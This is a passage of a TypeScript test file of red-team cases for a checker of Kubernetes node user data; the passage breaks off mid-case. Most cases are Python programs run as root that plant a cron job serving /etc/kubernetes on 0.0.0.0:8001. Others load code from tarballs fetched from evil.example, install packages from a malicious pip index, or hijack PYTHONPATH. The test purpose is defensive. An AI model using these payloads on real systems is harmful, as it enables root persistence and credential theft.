// Red-team round 78 (python, fresh eyes) on EKS NODE user data (AL2023: python3.9): Python programs user data writes
// and root runs. Probed: writes through library METHODS (boto3 download_file/download_fileobj, URLopener.retrieve,
// requests + copyfileobj, configparser/json/logging writers, tarfile/zipfile extractall, os.open/os.replace, Path
// links) and through unreviewed module functions given a path that is not a literal (a name, os.path.join, Path(),
// an f-string); commands through other names for os (shutil.os, tempfile._os, getattr); code loaded by stdlib helpers
// (pkgutil.walk_packages, unittest discovery, setuptools.sandbox.run_setup, zipimport); pip installs from another
// index leaving a .pth for later stdlib-only programs; PYTHONPATH/PYTHONHOME/PIP_* from env files sourced under
// `set -a`/allexport (heredoc, echo, printf, downloaded), a unit's EnvironmentFile=; pip's configuration found via
// sys.prefix, HOME and XDG_CONFIG_DIRS; scheduling wrappers before python. Secure twins: the same libraries on
// /var/cache, /var/lib, /var/log paths, reads only, -I/-E, PYTHONSTARTUP in a script run, iter_modules.
// Misses (25 insecure accepted, 3 secure refused), by class:
// - PY-WRITE-NONLITERAL (6): dev-py78-numpy-savetxt-{name,join,path,fstring}-nodes, dev-py78-distutils-copy-file-nodes,
//   dev-py78-prom-textfile-name-nodes: the round-77 rule (pythonWriteRefusal) judges only absolute LITERAL arguments
//   of unreviewed module functions. Fix: compute each argument with pythonPath; an uncomputable one fails closed.
// - PY-WRITE-METHOD (4): dev-py78-boto3-{client-download,bucket-download,download-kw}-nodes,
//   dev-py78-urlopener-retrieve-nodes: writers that are methods of objects (boto3 is in PYTHON_NO_FILE_WRITE_CALLS;
//   PYTHON_WRITE_CALLS holds module functions only). Fix: a table of writing methods read on any receiver.
// - PY-RUNNER-ALIAS (3): dev-py78-shutil-os-system-nodes, dev-py78-tempfile-os-system-nodes,
//   dev-py78-from-shutil-import-os-nodes: os reached as another standard module's attribute is no runner
//   (PYTHON_COMMAND_RUNNERS on the resolved name). Fix: resolve stdlib module attributes (X.os, X._os) to the module.
// - CODE-LOAD (5): dev-py78-pkgutil-walk-nodes, dev-py78-unittest-discover-nodes, dev-py78-unittest-cli-nodes,
//   dev-py78-setuptools-run-setup-rel-nodes, dev-py78-zipimporter-name-nodes: stdlib/known-package helpers that import
//   or exec code from a path are not in PYTHON_DYNAMIC_NAMES; `python -m unittest` is read as stdlib code. Fix: list
//   them (pkgutil walk/loaders, unittest loaders and -m, zipimport, setuptools.sandbox, distutils.core.run_setup).
// - PIP-UNTRUSTED-SITE (3): dev-py78-pip-evil-index-pth-nodes, dev-py78-pip-subprocess-pth-nodes,
//   dev-py78-pip-main-pth-nodes: an untrusted pip install (shell, subprocess or pip.main) leaves site-packages
//   unknown (.pth import lines, sitecustomize run at every start), yet a later stdlib-only program is read as clean.
//   Fix: an untrusted install marks site-packages changed, so every later python run (without -S/-I) is unread.
// - ENV-FILE-COMPUTED (3): dev-py78-set-a-printf-pythonpath-nodes, dev-py78-pip-set-a-printf-nodes,
//   dev-py78-pip-allexport-printf-nodes: a printf-written env file sourced under set -a exports PYTHONPATH or
//   PIP_INDEX_URL that no literal in user data names. Fix: source printf's computed text; unknown text makes
//   PYTHON*/PIP_*/UV_* unknown.
// - PIP-CONFIG-DIRS (1): dev-py78-pip-xdg-config-dirs-nodes: pip's global configuration is read from XDG_CONFIG_DIRS
//   (configuredWords reads fixed paths). Fix: follow XDG_CONFIG_DIRS/XDG_CONFIG_HOME or withdraw pip trust.
// - secure PIP-MENTION (2): dev-py78-pip-comment-mention-nodes, dev-py78-pip-env-unset-nodes: the PIP_ word scan
//   covers comments and `env -u`. Secure UNREVIEWED-READ (1): dev-py78-numpy-loadtxt-etc-nodes (a read judged a write).
// Held: 19 of 44 insecure refused (controls at open(), tar filter='data' into /etc/cron.d, FileHandler by name,
// getattr(os, "system"), PYTHONPATH/PYTHONHOME from heredoc/echo env files and EnvironmentFile=, /usr/pip.conf,
// HOME-moved pip.conf, a downloaded env file sourced, wrapped python runs; two only by accident: literal run_setup and
// zipimporter paths judged as writes); 22 of 25 secure clean.
// Fixed in round 78 (fix78-python, fix78-pip): classes 1-4, 6-9 (pythonCode.ts computed path arguments, writing
// methods, module attributes that are modules, code loaders and -m runners, numpy readers; a program running pip is
// unread; printf env files under set -a; XDG_CONFIG_*; PIP_ words in comments and env -u removals). Still open (round
// 78): dev-py78-pip-evil-index-pth-nodes (an untrusted index install tainting every later python run refuses the
// pinned secure pip-r-index of redteam77-secure: needs a decision on operator mirrors).
// Round 90 fix (fix90-f2, DECIDED): dev-py78-pip-evil-index-pth-nodes fixed and unskipped: any package source but the
// default index is refused at the install line (rootReads.ts unvouchedPythonPackages, pipOptions.ts pipUnvouchedSources),
// withdrawing redteam77-secure's pinned pip-r-index; 12 insecure and 4 secure -fix90 neighbours.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;

/** What a refusal names: the server, the program, a write root reads, pip, or code it does not read. */
const REFUSED =
    /serv|8001|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import|json|helper|plugin/;

const EVIL = "https://pypi.evil.example/simple";

/** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
const CRON_LINE = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001";

/** /opt/ops/tune.py (`lines`) run as root from /var/lib/ops; `before` shell lines first. */
const tune = (name: string, lines: string[], before: string[] = [], after: string[] = []) =>
    devNodeScript(name, [
        "mkdir -p /var/lib/ops /var/cache/ops /var/log/ops",
        ...before,
        ...heredocFile("/opt/ops/tune.py", lines),
        "cd /var/lib/ops && python3 /opt/ops/tune.py",
        ...after,
    ]);

/** tune.py importing a pip-installed module `mod` and calling its main(), after the `install` shell lines. */
const pipRun = (name: string, install: string[], mod = "srvx") =>
    tune(name, [`import ${mod}`, `${mod}.main()`], install);

/** tune.py importing tenacity (a default-index project) and printing its name, after the `install` shell lines. */
const tenacity = (name: string, install: string[]) =>
    tune(name, ["import tenacity", "print(tenacity.__name__)"], install);

/** A downloaded tarball extracted into `dir` (content the pack cannot read). */
const untar = (dir: string) => [
    "curl -fsSLo /var/cache/ops/x.tgz https://evil.example/x.tgz",
    `mkdir -p ${dir}`,
    `tar -xzf /var/cache/ops/x.tgz -C ${dir}`,
];

const insecure: NodeCase[] = [
    // ===== writes through library methods =====
    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file(Bucket, Key, Filename)": "Filename (str) – The path to the file to download to": the object's bytes become /etc/cron.d/ops, a cron file root's cron runs (crontab(5)): a boot-time root server of /etc/kubernetes on 0.0.0.0:8001 (the kubelet's and node role's credentials to every pod). The pack: PYTHON_WRITE_CALLS (pythonCode.ts) holds module functions only, pythonWriteRefusal's method scan knows pathlib's names and tofile, and boto3.* is in PYTHON_NO_FILE_WRITE_CALLS, so a method of a client object writes nothing. Fix: a table of writing METHODS read on any receiver (boto3 download_file: Filename arg 2 on a client/S3Transfer, arg 1 on a Bucket, arg 0 on an Object; URLopener.retrieve arg 1; ...), or fail closed on any method call given a path-valued argument the pack has not reviewed.
    dev(
        "tune.py: boto3 client download_file(bucket, key, '/etc/cron.d/ops')",
        tune("dev-py78-boto3-client-download-nodes", [
            "import boto3",
            's3 = boto3.client("s3")',
            's3.download_file("ops-artifacts", "cron/ops", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Bucket.download_file(Key, Filename)" ("Filename (str) – The path to the file to download to"): the same cron file as the client case. pythonWriteRefusal: a chained resource method is no PYTHON_WRITE_CALLS callee and no pathlib method. Fix: as the client case.
    dev(
        "tune.py: boto3.resource('s3').Bucket(b).download_file(key, '/etc/cron.d/ops')",
        tune("dev-py78-boto3-bucket-download-nodes", [
            "import boto3",
            'boto3.resource("s3").Bucket("ops-artifacts").download_file("cron/ops", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. boto3 docs "S3.Client.download_file" (the keyword Filename= is the target). Same place and fix as the client case (read the keyword too; a name bound to a literal through pythonPath).
    dev(
        "tune.py: boto3 client download_file(Bucket=, Key=, Filename=target) with target a module constant",
        tune("dev-py78-boto3-download-kw-nodes", [
            "import boto3",
            'TARGET = "/etc/cron.d/ops"',
            'boto3.client("s3").download_file(Bucket="ops-artifacts", Key="cron/ops", Filename=TARGET)',
        ]),
        REFUSED,
    ),
    // Held (control): Python docs "open" ('wb' truncates and writes) and boto3 "download_fileobj" ("A file-like object to download into"): the S3 object becomes a root cron file (crontab(5)); refused at the open.
    dev(
        "tune.py: boto3 download_fileobj into open('/etc/cron.d/ops', 'wb') (control: the open)",
        tune("dev-py78-boto3-fileobj-control-nodes", [
            "import boto3",
            'with open("/etc/cron.d/ops", "wb") as f:',
            '    boto3.client("s3").download_fileobj("ops-artifacts", "cron/ops", f)',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy docs "numpy.savetxt(fname, X, fmt=...)" ("fname: filename, file handle or pathlib.Path"): the cron line lands in /etc/cron.d/ops (crontab(5)): a root server of /etc/kubernetes at boot. The pack: the round-77 rule in pythonWriteRefusal ("a call of an imported module's function that is neither a PYTHON_WRITE_CALLS entry ... nor reviewed") judges only arguments whose pythonText is an absolute LITERAL; `p` (a name), os.path.join, Path(...) and f-strings are skipped. Fix: compute every argument with pythonPath (names, joins, Path, f-strings) and judge what it yields; an argument it cannot compute that may be a path (anything but a literal non-path, a number, a known data name) fails closed.
    dev(
        "tune.py: p = '/etc/cron.d/ops'; numpy.savetxt(p, [cron line], fmt='%s') (the path a name)",
        tune("dev-py78-numpy-savetxt-name-nodes", [
            "import numpy",
            'p = "/etc/cron.d/ops"',
            `numpy.savetxt(p, ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "os.path.join" (the joined path is /etc/cron.d/ops) and NumPy "numpy.savetxt": as the name case; same place (the literal-only test in pythonWriteRefusal's round-77 loop) and fix.
    dev(
        "tune.py: numpy.savetxt(os.path.join('/etc/cron.d', 'ops'), ...)",
        tune("dev-py78-numpy-savetxt-join-nodes", [
            "import numpy, os",
            `numpy.savetxt(os.path.join("/etc/cron.d", "ops"), ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. NumPy "numpy.savetxt" (fname may be a pathlib.Path): as the name case; same place and fix.
    dev(
        "tune.py: numpy.savetxt(pathlib.Path('/etc/cron.d/ops'), ...)",
        tune("dev-py78-numpy-savetxt-path-nodes", [
            "import numpy, pathlib",
            `numpy.savetxt(pathlib.Path("/etc/cron.d/ops"), ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python reference "f-strings" (the replacement field is the name's value: /etc/cron.d/ops): as the name case; same place and fix (pythonText refuses f-strings, so the argument is skipped rather than failed closed).
    dev(
        "tune.py: numpy.savetxt(f'/etc/cron.d/{name}', ...)",
        tune("dev-py78-numpy-savetxt-fstring-nodes", [
            "import numpy",
            'name = "ops"',
            `numpy.savetxt(f"/etc/cron.d/{name}", ["${CRON_LINE}"], fmt="%s")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-NONLITERAL) insecure accepted, got []. Python docs "distutils.file_util" copy_file(src, dst): "Copy file src to dst ... (If the file exists, it will be ruthlessly clobbered.)": the cron line written to /var/cache/ops/c (accepted: program data) is copied into /etc/cron.d/ops. The pack: distutils is neither in PYTHON_WRITE_CALLS nor reviewed, and dst is a name, not a literal (the round-77 loop). Fix: as the numpy name case (and shutil-like copiers of distutils.file_util/dir_util in PYTHON_WRITE_CALLS by dst).
    dev(
        "tune.py: distutils.file_util.copy_file(src, dst) with dst a name for /etc/cron.d/ops",
        tune("dev-py78-distutils-copy-file-nodes", [
            "import distutils.file_util",
            `open("/var/cache/ops/c", "w").write("${CRON_LINE}\\n")`,
            'dst = "/etc/cron.d/ops"',
            'distutils.file_util.copy_file("/var/cache/ops/c", dst)',
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-WRITE-METHOD) insecure accepted, got []. Python docs "urllib.request" legacy interface, URLopener.retrieve(url, filename=None, ...): "Retrieves the contents of url and places it in filename" (deprecated, present in 3.9): the fetched text becomes /etc/cron.d/ops (crontab(5)). The pack: only the module function urllib.request.urlretrieve is in PYTHON_WRITE_CALLS; `.retrieve(` on the URLopener() object is no callee it matches. Fix: as the boto3 client case (retrieve's arg 1 as a write on any receiver).
    dev(
        "tune.py: urllib.request.URLopener().retrieve(url, '/etc/cron.d/ops')",
        tune("dev-py78-urlopener-retrieve-nodes", [
            "import urllib.request",
            'urllib.request.URLopener().retrieve("https://ops.example/cron", "/etc/cron.d/ops")',
        ]),
        REFUSED,
    ),
    // Held (control): Python docs "shutil.copyfileobj(fsrc, fdst)" copies into the file open() made for writing: /etc/cron.d/ops (crontab(5)) from the network; refused at the open.
    dev(
        "tune.py: requests.get(url) then shutil.copyfileobj(r.raw, open('/etc/cron.d/ops', 'wb')) (control)",
        tune("dev-py78-requests-copyfileobj-nodes", [
            "import requests, shutil",
            'r = requests.get("https://ops.example/cron", stream=True)',
            'shutil.copyfileobj(r.raw, open("/etc/cron.d/ops", "wb"))',
        ]),
        REFUSED,
    ),
    // Held: Python docs "tarfile" extraction filters: filter='data' keeps members inside the destination, but the destination /etc/cron.d is root's cron directory (crontab(5)): members of any name are cron jobs.
    dev(
        "tune.py: tarfile.open(downloaded).extractall('/etc/cron.d', filter='data') (control)",
        tune(
            "dev-py78-tar-data-cron-nodes",
            ["import tarfile", 'tarfile.open("/var/cache/ops/c.tgz").extractall("/etc/cron.d", filter="data")'],
            ["curl -fsSLo /var/cache/ops/c.tgz https://evil.example/c.tgz"],
        ),
        REFUSED,
    ),
    // Held (control): Python docs "configparser" ConfigParser.write(fileobject) writes into the file open(..., 'w') made: /etc/cron.d/ops, read by cron (crontab(5)).
    dev(
        "tune.py: configparser.ConfigParser().write(open('/etc/cron.d/ops', 'w')) (control)",
        tune("dev-py78-configparser-write-nodes", [
            "import configparser",
            "c = configparser.ConfigParser()",
            'c["x"] = {"y": "z"}',
            'c.write(open("/etc/cron.d/ops", "w"))',
        ]),
        REFUSED,
    ),
    // Held: Python docs "logging.FileHandler(filename, mode='a')" appends each record (format %(message)s: the cron line) to /etc/cron.d/ops (crontab(5)); the name is computed.
    dev(
        "tune.py: logging.FileHandler(name of /etc/cron.d/ops) logging the cron line",
        tune("dev-py78-filehandler-cron-nodes", [
            "import logging",
            'LOG = "/etc/cron.d/ops"',
            "h = logging.FileHandler(LOG)",
            'h.setFormatter(logging.Formatter("%(message)s"))',
            "log = logging.getLogger()",
            "log.addHandler(h)",
            `log.warning("${CRON_LINE}")`,
        ]),
        REFUSED,
    ),
    // ===== commands through other names =====
    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/shutil.py `import os` makes os an attribute of shutil (Python reference "The import statement": the name is bound in the module's namespace), so shutil.os.system is os.system (Python docs "os.system": "Execute the command (a string) in a subshell"): root writes the cron line into /etc/cron.d/ops. The pack: PYTHON_COMMAND_RUNNERS matches the resolved callee `^(?:os|posix)\.system`, and `shutil.os.system` resolves to itself, so no runner is seen and no command is judged. Fix: resolve a module attribute that is itself a standard module (shutil.os, tempfile._os, subprocess.os, pathlib.os, X.sys ...) to that module before matching, or treat any attribute path through an `os`/`_os`/`posix` component as os.
    dev(
        "tune.py: shutil.os.system('echo cron line > /etc/cron.d/ops') (os reached as shutil's attribute)",
        tune("dev-py78-shutil-os-system-nodes", [
            "import shutil",
            `shutil.os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // Held: Python docs "getattr" (getattr(os, 'system') is os.system, "Execute the command ... in a subshell"): the cron line lands in /etc/cron.d; refused as commands the pack does not read.
    dev(
        "tune.py: getattr(os, 'system')('echo cron line > /etc/cron.d/ops')",
        tune("dev-py78-getattr-os-system-nodes", [
            "import os",
            `getattr(os, "system")("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PY-RUNNER-ALIAS) insecure accepted, got []. CPython Lib/tempfile.py `import os as _os`: tempfile._os.system is os.system. Same place (PYTHON_COMMAND_RUNNERS on the resolved name) and fix as the shutil.os case.
    dev(
        "tune.py: tempfile._os.system(...) (tempfile's private os)",
        tune("dev-py78-tempfile-os-system-nodes", [
            "import tempfile",
            `tempfile._os.system("echo '${CRON_LINE}' > /etc/cron.d/ops")`,
        ]),
        REFUSED,
    ),
    // Held (control): Python docs "os.system" with the command in a name: root writes /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: os.system(line) with line built from a cron line and a target (control)",
        tune("dev-py78-os-system-var-nodes", [
            "import os",
            `line = "echo '${CRON_LINE}' > /etc/cron.d/ops"`,
            "os.system(line)",
        ]),
        REFUSED,
    ),
    // ===== code loading =====
    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. CPython Lib/pkgutil.py walk_packages: "Note that this function must import all *packages* (NOT all modules!) on the given path, in order to access the __path__ attribute": each package's __init__.py from the tarball runs as root (arbitrary code: the kubelet's credentials, the node role). The pack: PYTHON_DYNAMIC_NAMES lists pkgutil.resolve_name only; pkgutil is a standard module, so the program is read as importing nothing unread. Fix: every standard-library call that imports from a path or name argument is dynamic unless read: pkgutil.walk_packages/get_loader/find_loader/ImpImporter, unittest's loaders (discover, loadTestsFromName(s), main), zipimport, setuptools.sandbox, distutils.core.run_setup.
    dev(
        "tune.py: pkgutil.walk_packages(['/var/cache/ops/plugins']) (imports each package found); plugins from a tarball",
        tune(
            "dev-py78-pkgutil-walk-nodes",
            ["import pkgutil", 'for m in pkgutil.walk_packages(["/var/cache/ops/plugins"]):', "    print(m.name)"],
            untar("/var/cache/ops/plugins"),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "unittest" TestLoader.discover(start_dir, pattern='test*.py'): "Find all the test modules by recursing into subdirectories from the specified start directory" and import them: the tarball's test*.py runs as root. The pack: PYTHON_DYNAMIC_NAMES excludes unittest but unittest.mock. Fix: as the walk_packages case.
    dev(
        "tune.py: unittest.TestLoader().discover('/var/cache/ops/checks') (imports test*.py); checks from a tarball",
        tune(
            "dev-py78-unittest-discover-nodes",
            [
                "import unittest",
                'suite = unittest.TestLoader().discover("/var/cache/ops/checks")',
                "unittest.TextTestRunner().run(suite)",
            ],
            untar("/var/cache/ops/checks"),
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (CODE-LOAD) insecure accepted, got []. Python docs "unittest" command-line interface (`python -m unittest discover -s DIR`: -s "Directory to start discovery"; modules matching test*.py are imported): the tarball's code runs as root. The pack reads `python -m unittest` as the standard library's own module (pythonProgram/pythonUnreadCode: a standard module is read code), its arguments unread. Fix: stdlib `-m` modules that import or run their operands (unittest, doctest, pdb, cProfile, profile, trace, timeit, runpy, pydoc, zipapp's archives) make the run unread unless the operands are files the pack read.
    dev(
        "user data: python3 -m unittest discover -s /var/cache/ops/checks (from a tarball)",
        devNodeScript("dev-py78-unittest-cli-nodes", [
            "mkdir -p /var/cache/ops",
            ...untar("/var/cache/ops/checks"),
            "python3 -m unittest discover -s /var/cache/ops/checks",
        ]),
        REFUSED,
    ),
    // Held (by accident): setuptools.sandbox.run_setup runs the tarball's setup.py as root (arbitrary code). Refused only because the round-77 rule reads the absolute literal as a write of a file in a tree user data changed; see the relative twin below (a MISS).
    dev(
        "tune.py: setuptools.sandbox.run_setup('/var/cache/ops/src/setup.py', ['build']) (setup.py from a tarball)",
        tune(
            "dev-py78-setuptools-run-setup-nodes",
            ["import setuptools.sandbox", 'setuptools.sandbox.run_setup("/var/cache/ops/src/setup.py", ["build"])'],
            untar("/var/cache/ops/src"),
        ),
        REFUSED,
    ),
    // Held (by accident): Python docs "zipimport" load_module runs the downloaded zip's module as root. Refused only as a "write" of the downloaded zip (round-77 literal rule); see the named twin below (a MISS).
    dev(
        "tune.py: zipimport.zipimporter('/var/cache/ops/p.zip').load_module('p') (a downloaded zip)",
        tune(
            "dev-py78-zipimporter-nodes",
            ["import zipimport", 'zipimport.zipimporter("/var/cache/ops/p.zip").load_module("p").main()'],
            ["curl -fsSLo /var/cache/ops/p.zip https://evil.example/p.zip"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url (another index) and Python docs "site" (a .pth in site-packages: "Lines starting with import (followed by space or tab) are executed", "at every Python startup"; sitecustomize likewise): the index's srvx wheel may ship a .pth/sitecustomize that runs as root in serve.py, which imports only json. The pack: pip as a library (pip.main) is a known package call; scriptPipModules reads only shell pip lines, and pythonUnreadCode judges each import against pythonLibraryWritten, never an untrusted install's site-packages. Fix: any pip/uv install the pack does not trust (another index, a file, a URL; pip run from Python: pip.main, pip._internal, subprocess/os.system pip) marks site-packages changed in a way it cannot compute, so every later python run without -S/-I is unread (as pythonStdlibZipChanged does for the zip).
    dev(
        "tune.py: pip.main(['install', '-i', EVIL, 'srvx']) (pip as a library); serve.py later imports json only",
        tune(
            "dev-py78-pip-main-pth-nodes",
            ["import pip", `pip.main(["install", "-i", "${EVIL}", "srvx"])`],
            [],
            [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (PIP-UNTRUSTED-SITE) insecure accepted, got []. As the pip.main case (pip docs --index-url; Python docs "site" .pth import lines): the literal command is judged as root's own command, which does not taint later Python runs. Same place and fix.
    dev(
        "tune.py: subprocess.run(['pip3', 'install', '-i', EVIL, 'srvx']); serve.py later imports json only",
        tune(
            "dev-py78-pip-subprocess-pth-nodes",
            ["import subprocess", `subprocess.run(["pip3", "install", "-i", "${EVIL}", "srvx"], check=True)`],
            [],
            [...heredocFile("/opt/ops/serve.py", ["import json", "print(json.dumps(1))"]), "python3 /opt/ops/serve.py"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 90): (PIP-UNTRUSTED-SITE) insecure accepted, got []. pip docs "pip install" --index-url / -i ("Base URL of the Python Package Index (default https://pypi.org/simple)"): srvx comes from another index, and its wheel's .pth import line or sitecustomize runs in every later root Python process (Python docs "site"), here tune.py, which imports only json. The pack withdrew trust in the module srvx only (scriptPipModules retracted). DECIDED (round 90): round 74's credit is the default index's by name; any other package source (another or an extra index, find-links, --trusted-host, PIP_INDEX_URL/PIP_EXTRA_INDEX_URL, a pip.conf index setting; uv's and pipx's the same) is refused at the install line (rootReads.ts unvouchedPythonPackages, pipOptions.ts pipUnvouchedSources), which withdraws the pinned secure redteam77-secure pip-r-index (pip docs' --extra-index-url warning, "dependency confusion").
    dev(
        "user data: pip3 install -i EVIL srvx (a .pth in its wheel runs at every start); tune.py imports json only",
        tune(
            "dev-py78-pip-evil-index-pth-nodes",
            ["import json", "print(json.dumps(1))"],
            [`pip3 install -i ${EVIL} srvx`],
        ),
        REFUSED,
    ),
    // Round 90 neighbours (pip docs "pip install" Package Index Options and "Configuration": environment variables and
    // pip.conf keys are the long options; "Requirements File Format" option lines; uv docs "uv pip install" --index-url,
    // "Environment variables" UV_INDEX_URL; pipx docs "pipx install" --index-url): a package source but the default index.
    dev(
        "user data: pip3 install --extra-index-url MIRROR srvx; tune.py imports json only",
        tune(
            "dev-py90-pip-extra-index-fix90",
            ["import json"],
            ["pip3 install --extra-index-url https://pypi.ops-mirror.example.net/simple srvx"],
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install -f https://ops.example.net/wheels/ srvx (a links page)",
        tune(
            "dev-py90-pip-find-links-fix90",
            ["import json"],
            ["pip3 install -f https://ops.example.net/wheels/ srvx"],
        ),
        REFUSED,
    ),
    dev(
        "user data: pip3 install --trusted-host pypi.org srvx (TLS unverified for the default index)",
        tune("dev-py90-pip-trusted-host-fix90", ["import json"], ["pip3 install --trusted-host pypi.org srvx"]),
        REFUSED,
    ),
    dev(
        "user data: pip3 install -i http://pypi.org/simple srvx (the default index over plain http)",
        tune("dev-py90-pip-http-default-fix90", ["import json"], ["pip3 install -i http://pypi.org/simple srvx"]),
        REFUSED,
    ),
    dev(
        "user data: PIP_INDEX_URL=EVIL pip3 install srvx",
        tune("dev-py90-pip-index-env-fix90", ["import json"], [`PIP_INDEX_URL=${EVIL} pip3 install srvx`]),
        REFUSED,
    ),
    dev(
        "user data: export PIP_EXTRA_INDEX_URL=EVIL; python3 -m pip install srvx",
        tune(
            "dev-py90-pip-extra-index-export-fix90",
            ["import json"],
            [`export PIP_EXTRA_INDEX_URL=${EVIL}`, "python3 -m pip install srvx"],
        ),
        REFUSED,
    ),
    dev(
        "user data: /etc/pip.conf index-url = EVIL; pip3 install srvx",
        tune(
            "dev-py90-pip-conf-index-fix90",
            ["import json"],
            [...heredocFile("/etc/pip.conf", ["[global]", `index-url = ${EVIL}`]), "pip3 install srvx"],
        ),
        REFUSED,
    ),
    dev(
        "user data: requirements.txt with -i EVIL; pip3 install -r",
        tune(
            "dev-py90-pip-r-evil-index-fix90",
            ["import json"],
            [
                ...heredocFile("/opt/ops/requirements.txt", [`-i ${EVIL}`, "srvx==1.0"]),
                "pip3 install -r /opt/ops/requirements.txt",
            ],
        ),
        REFUSED,
    ),
    dev(
        "user data: python3 -m pip install --index-url=EVIL srvx",
        tune("dev-py90-python-m-pip-index-fix90", ["import json"], [`python3 -m pip install --index-url=${EVIL} srvx`]),
        REFUSED,
    ),
    dev(
        "user data: uv pip install --system --index-url EVIL srvx",
        tune("dev-py90-uv-index-fix90", ["import json"], [`uv pip install --system --index-url ${EVIL} srvx`]),
        REFUSED,
    ),
    dev(
        "user data: UV_INDEX_URL=EVIL uv pip install --system srvx",
        tune("dev-py90-uv-index-env-fix90", ["import json"], [`UV_INDEX_URL=${EVIL} uv pip install --system srvx`]),
        REFUSED,
    ),
    dev(
        "user data: pipx install --index-url EVIL srvx",
        tune("dev-py90-pipx-index-fix90", ["import json"], [`pipx install --index-url ${EVIL} srvx`]),
        REFUSED,
    ),
    // ===== the interpreter's environment from a sourced file =====
    // Held: bash(1) "set -a" exports the sourced PYTHONPATH; Python docs "The initialization of the sys.path module search path": its entries come before the standard library, so the tarball's json.py is what `import json` runs as root.
    dev(
        "user data: set -a; . /etc/ops/py.env (PYTHONPATH=/var/cache/ops/lib); json.py from a tarball there; tune.py imports json",
        tune(
            "dev-py78-set-a-pythonpath-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                ...heredocFile("/etc/ops/py.env", ["PYTHONPATH=/var/cache/ops/lib"]),
                ...untar("/var/cache/ops/lib"),
                "set -a",
                ". /etc/ops/py.env",
                "set +a",
            ],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 78): (ENV-FILE-COMPUTED) insecure accepted, got []. bash(1) "set -a": "Each variable or function that is created or modified is given the export attribute"; printf(1) writes `PYTHONPATH=/var/cache/ops/lib` into the env file; sourcing it exports PYTHONPATH, and Python docs "The initialization of the sys.path module search path" puts it before the standard library: the tarball's json.py runs as root. The same file written by a heredoc or echo IS refused (pythonRootShadowed), so the pack reads a sourced file's assignments only when its text holds them literally; printf's formatted output is not read as the sourced script (ScriptView.environment, rootReads.ts source/. runner, has no PYTHONPATH). Fix: source the text printfOutput computes (as for echo), and a sourced file whose text the pack cannot compute makes every PYTHON*/PIP_*/UV_* variable unknown.
    dev(
        "user data: printf '%s=%s' PYTHONPATH dir > env; set -a; source env; tune.py imports json",
        tune(
            "dev-py78-set-a-printf-pythonpath-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                "mkdir -p /etc/ops",
                "printf '%s=%s\\n' PYTHONPATH /var/cache/ops/lib > /etc/ops/py.env",
                ...untar("/var/cache/ops/lib"),
                "set -a",
                "source /etc/ops/py.env",
                "set +a",
            ],
        ),
        REFUSED,
    ),
    // Held: Python docs "PYTHONHOME" ("Change the location of the standard Python libraries"): the tarball is the standard library root imports at start (encodings, json): arbitrary root code.
    dev(
        "user data: set -a; . env (PYTHONHOME=/var/cache/ops/py from a tarball); tune.py",
        tune(
            "dev-py78-set-a-pythonhome-nodes",
            ["import json", "print(json.dumps(1))"],
            [
                ...heredocFile("/etc/ops/py.env", ["PYTHONHOME=/var/cache/ops/py"]),
                ...untar("/var/cache/ops/py"),
                "set -a",
                ". /etc/ops/py.env",
                "set +a",
            ],
        ),
        REFUSED,
    ),
    // Held: systemd.exec(5) EnvironmentFile= ("Similar to Environment=, but reads the environment variables from a text file"): PYTHONPATH puts the tarball's json.py before the standard library (Python docs sys.path initialization).
    dev(
        "systemd unit: EnvironmentFile=/etc/ops/py.env (PYTHONPATH=/var/cache/ops/lib, json.py from a tarball); ExecStart=python3 tune.py",
        devNodeScript("dev-py78-unit-envfile-pythonpath-nodes", [
            "mkdir -p /var/cache/ops",
            ...heredocFile("/etc/ops/py.env", ["PYTHONPATH=/var/cache/ops/lib"]),
            ...untar("/var/cache/ops/lib"),
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            ...systemdUnit("ops-tune", [
                "EnvironmentFile=/etc/ops/py.env",
